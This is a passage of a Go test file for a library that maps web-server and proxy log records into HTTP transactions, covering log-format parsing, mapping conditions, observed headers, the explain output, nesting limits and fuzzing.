		{"second step", "parse:\n  - {field: log, format: json}\n  - {field: log, format: combined}" + request, combined, `10.0.0.7 GET /a 200 curl/8 \"x\"`},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := msgp.AppendMapHeader(nil, 2)
			r = msgp.AppendString(msgp.AppendString(r, "log"), c.line)
			r = msgp.AppendString(msgp.AppendString(r, "stream"), "stdout")
			var tx Transaction
			err := parseOne(t, c.yaml).Map("t", r, &tx)
			if c.want == "" {
				if !errors.Is(err, ErrUnmapped) {
					t.Fatalf("got %v, %q", err, show(&tx))
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			got := show(&tx)
			if len(tx.Args) > 0 {
				got = "ARGS " + tx.Args[0].Value
			}
			if !strings.HasSuffix(got, c.want) {
				t.Errorf("got %q, want %q", got, c.want)
			}
		})
	}
}

func TestParsedRecordsAreNotParsedAgain(t *testing.T) {
	m := parseOne(t, "parse: {field: message, format: json}\nrequest: {uri: u}\nclient: {address: c}")
	var tx Transaction
	if err := m.Map("t", record(t, `{"u":"/parsed","message":"{\"u\":\"/again\",\"c\":\"1.2.3.4\"}"}`), &tx); err != nil {
		t.Fatal(err)
	}
	if tx.URI != "/parsed" || tx.Client.Address != "" {
		t.Errorf("got %q of %q", tx.URI, tx.Client.Address)
	}
}

// A line #Fields: counts for the lines of its tag that follow.
func TestW3CDirectives(t *testing.T) {
	set := NewSet([]*Mapping{parseOne(t, "parse: {field: log, format: w3c, columns: cs-uri-stem}\nrequest: {path: cs-uri-stem}")}, false)
	line := func(tag, text string) (string, error) {
		var tx Transaction
		err := set.Map(tag, record(t, `{"log":"`+text+`"}`), &tx)
		return tx.URI, err
	}
	if got, err := line("a", "/default"); err != nil || got != "/default" {
		t.Errorf("got %q, %v", got, err)
	}
	for _, text := range []string{"#Software: Microsoft IIS", "#Fields: c-ip cs-uri-stem", "#Date: 2026-11-20"} {
		if _, err := line("a", text); !errors.Is(err, ErrSkipped) {
			t.Errorf("%s: got %v", text, err)
		}
	}
	if got, err := line("a", "10.0.0.1 /learned"); err != nil || got != "/learned" {
		t.Errorf("got %q, %v", got, err)
	}
	if got, err := line("b", "/other"); err != nil || got != "/other" {
		t.Errorf("another tag: got %q, %v", got, err)
	}
	if set.InOrder([]byte("#Software:")) || !set.InOrder([]byte("x#Fields: a")) {
		t.Error("chunks with #Fields: must be mapped in order, and no others")
	}
	if got, err := line("a", `1\t/tabs`); err != nil || got != "/tabs" {
		t.Errorf("got %q, %v", got, err)
	}
}

// Of several mappings that fit, the first maps a record, whatever record of the tag came before.
func TestFirstMappingThatFits(t *testing.T) {
	set := NewSet([]*Mapping{parseOne(t, "request: {path: first}"), parseOne(t, "request: {path: second}")}, false)
	for _, c := range []struct{ record, want string }{
		{`{"second":"/b"}`, "/b"}, {`{"first":"/a","second":"/b"}`, "/a"},
	} {
		var tx Transaction
		if err := set.Map("t", record(t, c.record), &tx); err != nil || tx.URI != c.want {
			t.Errorf("%s: got %q, %v, want %q", c.record, tx.URI, err, c.want)
		}
	}
}

func TestConditions(t *testing.T) {
	for _, c := range []struct {
		condition, record string
		want              bool
	}{
		{"[a]", `{"a":1}`, true},
		{"[a]", `{"b":1}`, false},
		{"[a]", `{"a":null}`, true},
		{"[a, b]", `{"b":1}`, true},
		{"{field: a}", `{"a":""}`, true},
		{"{field: a, equals: x}", `{"a":"x"}`, true},
		{"{field: a, equals: [x, 200]}", `{"a":200}`, true},
		{"{field: a, equals: x}", `{"a":"xx"}`, false},
		{"{field: a, equals: x}", `{}`, false},
		{"{field: a, not: x}", `{"a":"y"}`, true},
		{"{field: a, not: [x, y]}", `{"a":"y"}`, false},
		{"{field: a, not: x}", `{}`, true},
		{"{field: a, matches: '^x'}", `{"a":"xy"}`, true},
		{"{field: a, matches: '^x'}", `{"a":"yx"}`, false},
		{"{field: a, not_matches: '^x'}", `{"a":"yx"}`, true},
		{"{field: a, not_matches: '^x'}", `{"a":"xy"}`, false},
		{"{field: a, not_matches: '^x'}", `{}`, true},
		{"{field: a, exists: false}", `{}`, true},
		{"{field: a, exists: false}", `{"a":1}`, false},
		{"{field: a, exists: true}", `{"a":1}`, true},
		{"{any: [[a], {field: b, equals: x}]}", `{"b":"x"}`, true},
		{"{any: [[a], {field: b, equals: x}]}", `{"b":"y"}`, false},
	} {
		t.Run(c.condition+" "+c.record, func(t *testing.T) {
			m := parseOne(t, "when:\n  - "+c.condition+"\nrequest: {uri: {value: /}}")
			var tx Transaction
			err := m.Map("t", record(t, c.record), &tx)
			if c.want && err != nil || !c.want && !errors.Is(err, ErrSkipped) {
				t.Errorf("got %v", err)
			}
			if m.when[0].String() == "" {
				t.Error("the condition has no words")
			}
		})
	}
}

// Several mappings in a file: each record goes to the first that fits.
func TestDocuments(t *testing.T) {
	all, err := Parse("x.yaml", []byte(`# two kinds
name: sql
detect: [[sql]]
args: {statement: sql}
---
name: web
detect: [[uri]]
when: [{field: uri, not: /health}]
request: {uri: uri}
`))
	if err != nil || len(all) != 2 {
		t.Fatal(len(all), err)
	}
	set := NewSet(all, false)
	for range 2 { // the second time from memory
		for text, want := range map[string]string{`{"sql":"SELECT 1"}`: "sql", `{"uri":"/x"}`: "web", `{"uri":"/health"}`: "skipped", `{"log":"x"}`: "unmapped"} {
			var tx Transaction
			switch err := set.Map("t", record(t, text), &tx); {
			case want == "skipped" && errors.Is(err, ErrSkipped), want == "unmapped" && errors.Is(err, ErrUnmapped):
			case err != nil || tx.Preset != want:
				t.Errorf("%s: got %s, %v, want %s", text, tx.Preset, err, want)
			}
		}
	}
}

func TestObserved(t *testing.T) {
	const base = "request: {uri: u, headers: "
	for _, c := range []struct {
		name, yaml, record string
		shows, hides       []string
	}{
		{"fields that are there", base + "{fields: {Host: h, Accept: a, Cookie: c}}}", `{"u":"/","h":"x","a":"-"}`, []string{"host", "accept"}, []string{"cookie", ""}},
		{"whole block", base + "{raw: r}}", `{"r":"GET / HTTP/1.1\r\nA: b\r\n\r\n"}`, []string{"host", "cookie", ""}, nil},
		{"block that is cut", base + "{raw: r}}", `{"r":"GET / HTTP/1.1\r\nA: b"}`, nil, []string{"host", ""}},
		{"map", base + "{map: h}}", `{"u":"/","h":{"A":"1"}}`, []string{"a"}, []string{"host", ""}},
		{"complete map", base + "{map: h, complete: true}}", `{"u":"/","h":{"A":"1"}}`, []string{"a", "host", ""}, nil},
		{"complete map that is not there", base + "{map: h, complete: true}}", `{"u":"/"}`, nil, []string{"host", ""}},
		{"hidden values", base + "{map: h, complete: true}}\nhidden: [REDACTED]", `{"u":"/","h":{"Cookie":["REDACTED"]}}`, []string{"host"}, []string{"cookie", ""}},
		{"hidden field", base + "{fields: {Cookie: c}}}\nhidden: [REDACTED]", `{"u":"/","c":"REDACTED"}`, nil, []string{"cookie"}},
		{"observes", base + "{raw: r}}\nobserves: [Host]", `{"r":"GET / HTTP/1.1\r\nA: b\r\n\r\n"}`, []string{"host"}, []string{"accept", ""}},
		{"observes all", base + "{fields: {Host: h}}}\nobserves: all", `{"u":"/"}`, []string{"accept", ""}, nil},
		{"host of an absolute URI", "request: {uri: u}", `{"u":"http://a/"}`, []string{"host"}, []string{"accept"}},
		{"cookies", "request: {uri: u, cookies: c}", `{"u":"/","c":{}}`, []string{"cookie"}, []string{"accept"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			var tx Transaction
			m := parseOne(t, c.yaml)
			if err := m.Map("t", record(t, c.record), &tx); err != nil {
				t.Fatal(err)
			}
			for _, name := range c.shows {
				if !tx.Observed.Has(Part{RequestHeader, name}) {
					t.Errorf("does not show %q: %+v", name, tx.Observed.Request)
				}
				most := m.Observes()
				if name != "" && c.name != "map" && c.name != "host of an absolute URI" && !most.Has(Part{RequestHeader, name}) {
					t.Errorf("the mapping as such does not show %q", name)
				}
			}
			for _, name := range c.hides {
				if tx.Observed.Has(Part{RequestHeader, name}) {
					t.Errorf("shows %q: %+v", name, tx.Observed.Request)
				}
			}
		})
	}
	parts := func(yaml, text string) (query, request, response bool) {
		var tx Transaction
		if err := parseOne(t, yaml).Map("t", record(t, text), &tx); err != nil {
			t.Fatal(err)
		}
		return tx.Observed.Has(Part{Kind: Query}), tx.Observed.Has(Part{Kind: RequestBody}), tx.Observed.Has(Part{Kind: ResponseBody})
	}
	const bodies = "request: {uri: u, body: b}\nresponse: {body: r}\nargs: {a: a}"
	for text, want := range map[string][3]bool{
		`{"u":"/","b":"","r":"x"}`: {true, true, true},
		`{"u":"/"}`:                {true, false, false},
		`{"a":"x"}`:                {false, false, false},
	} {
		if q, b, r := parts(bodies, text); [3]bool{q, b, r} != want {
			t.Errorf("%s: got %v %v %v, want %v", text, q, b, r, want)
		}
	}
	if _, b, _ := parts("request: {uri: u, body: {field: b, limit: 2}}", `{"u":"/","b":"xx"}`); b {
		t.Error("a body that is cut counts as seen")
	}
}

// A connection without a request is nothing to complain about.
func TestNoRequest(t *testing.T) {
	m := parseOne(t, "parse: {field: log, format: combined}\nrequest: {line: request, headers: {fields: {User-Agent: agent}}}")
	var tx Transaction
	for _, request := range []string{"-", "", " ", "\\n"} {
		if err := m.Map("t", record(t, `{"log":"10.0.0.1 - - [x] \"`+request+`\" 408 0 \"-\" \"-\""}`), &tx); !errors.Is(err, ErrSkipped) {
			t.Errorf("%q: got %v", request, err)
		}
	}
	if err := m.Map("t", record(t, `{"log":"some text"}`), &tx); !errors.Is(err, ErrUnmapped) {
		t.Errorf("got %v", err)
	}
}

func TestExplain(t *testing.T) {
	set, err := Load("auto")
	if err != nil {
		t.Fatal(err)
	}
	var tx Transaction
	x, err := set.Explain("t", record(t, `{"log":"10.0.0.7 - - [20/Nov/2026:10:11:12 +0000] \"GET /a HTTP/1.1\" 200 12 \"-\" \"curl\"","stream":"stdout"}`), &tx)
	if err != nil {
		t.Fatal(err)
	}
	last := x.Tried[len(x.Tried)-1]
	if last.Mapping.Name != "nginx" || last.Reason != "" || x.Tried[0].Mapping.Name != "nano" || x.Tried[0].Reason != "it has none of URL, _URL" {
		t.Errorf("tried %+v", x.Tried)
	}
	found := map[string]FieldReport{}
	for _, f := range x.Fields {
		found[f.Part] = f
	}
	if got := found["request.line"]; got.Value != "GET /a HTTP/1.1" || got.From != "request" {
		t.Errorf("request.line: %+v", got)
	}
	if got := found["request.headers.Referer"]; got.Note != "empty" {
		t.Errorf("Referer: %+v", got)
	}
	if !reflect.DeepEqual(x.Unused, []string{"stream"}) {
		t.Errorf("unused: %q", x.Unused)
	}
	if !strings.Contains(tx.Describe(), "GET /a HTTP/1.1\nUser-Agent: curl\n") {
		t.Errorf("described as %q", tx.Describe())
	}
	if x, err = set.Explain("t", record(t, `{"x":1}`), &tx); !errors.Is(err, ErrNotHTTP) || len(x.Tried) != len(presets()) {
		t.Errorf("got %v after %d", err, len(x.Tried))
	}
}

// nested is a record with a URI and a list in lists.
func nested(deep int) Record {
	b := msgp.AppendMapHeader(nil, 2)
	b = msgp.AppendString(msgp.AppendString(b, "u"), "/")
	b = msgp.AppendString(b, "d")
	for range deep {
		b = msgp.AppendArrayHeader(b, 2)
		b = msgp.AppendInt(b, 1)
	}
	return msgp.AppendInt(b, 2)
}

// However deep a record is nested, all of it is read.
func TestHostileNesting(t *testing.T) {
	m := parseOne(t, "request: {uri: u, body: d}\nargs: {d: d}")
	for _, n := range []int{10, 1_000, 90_000} {
		var tx Transaction
		if err := m.Map("t", nested(n), &tx); err != nil {
			t.Fatal(err)
		}
		if n == 10 && tx.RequestBody.Text != strings.Repeat("[1,", 10)+"2"+strings.Repeat("]", 10) {
			t.Errorf("body is %s", tx.RequestBody.Text)
		}
		if len(tx.Args) != min(n+1, maxArgsDepth+1) {
			t.Errorf("nested %d deep: %d arguments", n, len(tx.Args))
		}
	}
	wide := msgp.AppendMapHeader(nil, 1)
	wide = msgp.AppendString(wide, "d")
	wide = msgp.AppendArrayHeader(wide, 5000)
	for range 5000 {
		wide = msgp.AppendInt(wide, 7)
	}
	var tx Transaction
	if err := m.Map("t", wide, &tx); err != nil || len(tx.Args) != maxArgs || !strings.HasSuffix(tx.Args[maxArgs-1].Value, " 7 7") {
		t.Errorf("%d arguments, %v", len(tx.Args), err)
	}
}

func FuzzLine(f *testing.F) {
	f.Add(`10.0.0.7 - - [20/Nov/2026:10:11:12 +0000] "GET /a HTTP/1.1" 200 12 "http://r/" "curl/8 \"x\""`)
	f.Add(`haproxy[1]: 10.0.0.7:1 [06/Feb/2009:12:14:14.655] a b/c 1/2 200 3 - - ---- 1/1 0/0 {x} {y} "GET /a HTTP/1.1"`)
	f.Add(`{"request":"GET / HTTP/1.1","remote_addr":"1.2.3.4"}`)
	f.Add("#Fields: date time c-ip cs-uri-stem")
	f.Add(`R[method=GET, uri=/a, remoteAddr=/10.0.0.7:1, headers={Host=b}] {"method"=>"GET"}`)
	f.Add("from 10.0.0.7:\nGET /a HTTP/1.1\r\nHost: b\r\n\r\n")
	set, err := Load("auto")
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, line string) {
		r := msgp.AppendMapHeader(nil, 1)
		r = msgp.AppendString(msgp.AppendString(r, "log"), line)
		before := string(r)
		var tx Transaction
		if err := set.Map("t", r, &tx); err == nil && tx.URI == "" && len(tx.RequestHeaders) == 0 && tx.RequestBody.Text == "" && tx.ResponseBody.Text == "" && len(tx.Args) == 0 {
			t.Error("nothing to inspect, and no error")
		}
		if string(r) != before {
			t.Error("the record was changed")
		}
	})
}
